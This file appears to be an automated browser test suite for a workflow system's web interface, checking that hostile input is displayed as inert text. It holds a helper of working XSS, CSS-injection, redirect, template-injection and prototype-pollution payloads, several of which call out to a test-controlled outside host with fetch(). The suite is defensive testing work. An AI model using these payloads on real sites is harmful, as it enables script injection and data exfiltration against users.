import { defineWorkflow, FatalError, type Nexus, type Schema } from "nexus-event-system";
import type { Page } from "playwright-core";
import { expect, test, vi } from "vitest";
import { serve } from "../http/fixtures/site.ts";
import { browsing, PATIENCE } from "./browser.ts";
import { elsewhere } from "./elsewhere.ts";

vi.setConfig({ testTimeout: 120_000 });

/** Texts that would do something if they were taken for markup, an address, a style or code. Each tells `url` which place it got out of. */
function attacks(url: string, place: string): Record<string, unknown> {
  const call = `fetch('${url}/${place}')`;
  return {
    [`<img src="${url}/${place}/key" onerror="${call}">`]: `<img src="${url}/${place}/value" onerror="${call}">`,
    script: `</pre></script><script>${call};globalThis.ran='${place}'</script><script src="${url}/${place}/script"></script>`,
    style: `</style><style>@import url(${url}/${place}/import)</style><p style="background:url(${url}/${place}/style)">`,
    more: `<svg/onload="${call}"><iframe src="${url}/${place}/frame"><link rel=stylesheet href="${url}/${place}/link">`,
    moves: `<meta http-equiv="refresh" content="0;url=${url}/${place}/refresh"><base href="${url}/"><form action="${url}/"><input autofocus>`,
    url: `javascript:${call}`,
    entity: "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(2)&#60;/script&#62;",
    template: "${alert(3)} {{constructor.constructor('alert(4)')()}}",
    turned: "invoice\u202efdp.exe \u2066\u2067 \u200f",
    control: "\u0000\u0007\u001b[31m\u009b\u0085\u2028\u2029\ufeff",
    ["__proto__"]: { polluted: place },
    constructor: { prototype: { polluted: place } },
    toString: "no function",
    toJSON: "no function either",
  };
}

function own(key: string, value: unknown): object {
  return Object.defineProperty({}, key, { value, enumerable: true });
}

/** What the page may never have become, whatever it was shown. */
async function unharmed(page: Page): Promise<void> {
  const found = await page.evaluate(`({
    ran: globalThis.ran, polluted: ({}).polluted, base: document.baseURI, title: document.title,
    foreign: [...document.querySelectorAll("body :is(script, style, img, svg, iframe, link, meta, base, object), [style], [onerror], [onload]")].map((node) => node.outerHTML),
    away: [...document.querySelectorAll("[href], [src], [action]")].map((node) => node.href ?? node.src ?? node.action).filter((url) => !url.startsWith(location.origin)),
    unseen: /[\\p{Cc}\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}]/u.exec(document.body.innerText.replace(/[\\n\\t]/g, ""))?.[0],
  })`);
  expect(found).toEqual({ base: page.url(), title: "Nexus", foreign: [], away: [] });
}

test("[page.2] whatever callers and code put into events, names, errors, sessions and schemas is text: nothing runs, nobody is asked", async () => {
  await using other = await elsewhere();
  const at = (place: string): Record<string, unknown> => attacks(other.url, place);
  const text = (place: string): string =>
    Object.values(at(place))
      .filter((value) => typeof value === "string")
      .join(" ");
  const schema: Schema = {
    "~standard": {
      version: 1,
      vendor: "test",
      validate: (value: unknown) => ({ value }),
      jsonSchema: {
        input: () => ({
          type: "object",
          properties: Object.fromEntries(
            Object.keys(at("property")).map((name) => [name, { type: "string", title: text("title"), description: text("hint") }]),
          ),
        }),
        output: () => ({}),
      },
    } as never,
  };
  const workflow = defineWorkflow(
    "hostile",
    { description: text("description"), version: text("version").slice(0, 500), inputs: schema },
    async (inputs, ctx) => {
      ctx.progress(50, text("progress"));
      await ctx.emitEvent("hostile.emitted", inputs as object);
      await ctx.broadcastEvent("hostile.broadcast", at("broadcast"));
      await ctx.step("stumble", { retry: { attempts: 2, baseMs: 1 } }, () => {
        throw Object.assign(new Error(text("error")), { name: text("name"), code: text("code") });
      });
    },
  );
  const returns = defineWorkflow("returns", () => at("result"));
  await using site = await serve({ workflows: [workflow, returns] });
  const app = site.app as Nexus;
  app.consumer("hostile", { type: "hostile.consumed" }, () => {
    throw new FatalError(text("consumer"));
  });
  app.onEvent("hostile.handled", () => {
    throw new Error(text("handler"));
  });
  await using browser = await browsing();
  const page = await browser.live(site.url);

  await page.locator("#workflows summary", { hasText: "hostile" }).click();
  for (const field of await page.locator(".workflow[open] input").all()) await field.fill(text("input"));
  await page.getByRole("button", { name: "Run hostile" }).click();
  await page.locator("#run .badge", { hasText: "failed" }).waitFor(PATIENCE);
  await page.locator("#notifications").getByText("<img src=").first().waitFor(PATIENCE);
  for (const [type, place] of [
    ["hostile.consumed", "data"],
    ["hostile.handled", "data"],
    ["hostile.sent", "data"],
  ] as const) {
    const id = `<img/src=x/onerror=fetch('${other.url}/id/${type}')>`;
    const sent = await site.post("/events", { type, id, data: at(place), metadata: at("metadata"), broadcast: true });
    expect(sent.status).toBe(201);
  }
  const { body: session } = await site.post("/sessions", { data: at("session"), metadata: at("about") });
  await site.post("/workflows/returns/execute", { inputs: at("inputs"), metadata: at("metadata"), sessionId: session.id });
  await page.locator("#events .type", { hasText: "consumer.dead_lettered" }).waitFor(PATIENCE);
  await page.locator("#events .type", { hasText: "handler.failed" }).waitFor(PATIENCE);
  await page.locator("#sessions button", { hasText: session.id.slice(-6) }).click();
  await page.getByLabel("Changes to the session, as JSON").fill(JSON.stringify({ ...at("patch"), ...own("__proto__", { polluted: 1 }) }));
  await page.getByRole("button", { name: "Change", exact: true }).click();
  await page.locator("#session pre").getByText("/patch/").waitFor(PATIENCE);
  await page.locator("#runs a", { hasText: "returns" }).click();
  await page.locator("#run pre").getByText("/result/").first().waitFor(PATIENCE);
  for (const summary of await page.locator("summary:visible").all()) await summary.click();
  await page.getByLabel("Types").fill(text("filter").slice(0, 200));
  await page.locator("#filter-note").getByText("is neither a type").waitFor(PATIENCE);
  await unharmed(page);

  // The same from history, as a page has it that comes later; and by an address that somebody else has made.
  await page.goto(`${site.url}/#/runs/<img src=x onerror=alert(1)>`);
  await page.reload();
  await page.locator("#state", { hasText: "live" }).waitFor(PATIENCE);
  for (const summary of await page.locator("#events summary").all()) await summary.click();
  await page.locator("#events pre").getByText("onerror").first().waitFor(PATIENCE);
  await unharmed(page);

  expect(other.asked).toEqual([]);
  expect(browser.requests.filter((url) => !url.startsWith(`${site.url}/`))).toEqual([]);
  expect([browser.violations, browser.complaints]).toEqual([[], []]);
});

test("[page.2] keys such as __proto__ and constructor are sent and shown as they are, from a form as from JSON", async () => {
  const properties = Object.fromEntries(["constructor", "hasOwnProperty", "toString"].map((name) => [name, { type: "string" }]));
  Object.defineProperty(properties, "__proto__", { value: { type: "string" }, enumerable: true });
  const schema = {
    "~standard": {
      version: 1,
      vendor: "test",
      validate: (value: unknown) => ({ value }),
      jsonSchema: { input: () => ({ properties }), output: () => ({}) },
    },
  };
  const form = defineWorkflow("form", { inputs: schema as never }, () => 1);
  const json = defineWorkflow("json", () => 1);
  await using site = await serve({ workflows: [form, json] });
  await using browser = await browsing();
  const page = await browser.live(site.url);
  await page.locator("#workflows summary", { hasText: "form" }).click();
  for (const name of ["__proto__", "constructor", "hasOwnProperty", "toString"])
    await page.getByLabel(name, { exact: true }).fill(`of ${name}`);
  await page.getByRole("button", { name: "Run form" }).click();
  await page.locator("#run .badge", { hasText: "completed" }).waitFor(PATIENCE);
  await page.locator("#workflows summary", { hasText: "json" }).click();
  await page.getByLabel("Inputs").fill('{"__proto__": {"polluted": 1}, "constructor": null}');
  await page.getByRole("button", { name: "Run json" }).click();
  await page.locator("#run .badge", { hasText: "completed" }).waitFor(PATIENCE);
  await page.locator("#run summary", { hasText: "Inputs" }).click();
  await page.locator("#run pre").getByText('"__proto__": {').waitFor(PATIENCE);
  await unharmed(page);
  const { events } = (await (await fetch(`${site.url}/events?type=workflow.started`)).json()) as { events: { data: { inputs: object } }[] };
  expect(events.map(({ data }) => JSON.stringify(data.inputs)).sort()).toEqual([
    '{"__proto__":{"polluted":1},"constructor":null}',
    '{"constructor":"of constructor","hasOwnProperty":"of hasOwnProperty","toString":"of toString","__proto__":"of __proto__"}',
  ]);
  expect(browser.complaints).toEqual([]);
});
